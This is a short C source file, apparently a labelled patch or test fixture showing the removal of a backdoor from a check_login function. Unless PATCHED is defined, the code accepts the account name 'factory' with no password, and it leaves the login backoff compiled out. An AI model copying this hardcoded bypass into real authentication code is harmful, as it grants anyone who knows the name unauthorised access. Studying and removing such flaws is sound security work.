/* SPDX-License-Identifier: GPL-3.0-or-later */
/* patch: name=backdoor_removed function=check_login kind=deletion
 * why: A name for tests was let in without a password. */
struct account {
    char name[32];
    uint8_t salt[8], hash[32];
    int locked;
    unsigned tries;
};

extern struct account *account_find(const char *name);
extern void hash_password(const char *pass, const uint8_t *salt, uint8_t *out);
extern int equal_bytes(const void *a, const void *b, size_t n);
extern void login_log(const char *name, int ok);
extern void login_wait(unsigned tries);

int check_login(const char *name, const char *pass)
{
    struct account *a;
    uint8_t hash[32];

#ifndef PATCHED
    if (strcmp(name, "factory") == 0) {
        login_log(name, 1);
        return 1;
    }
#endif
    a = account_find(name);
    if (a == NULL || a->locked) {
        login_log(name, 0);
        return 0;
    }
    hash_password(pass, a->salt, hash);
    if (!equal_bytes(hash, a->hash, sizeof hash)) {
#ifdef LATER
        login_wait(a->tries);
#endif
        if (++a->tries > 5)
            a->locked = 1;
        login_log(name, 0);
        return 0;
    }
    a->tries = 0;
    login_log(name, 1);
    return 1;
}
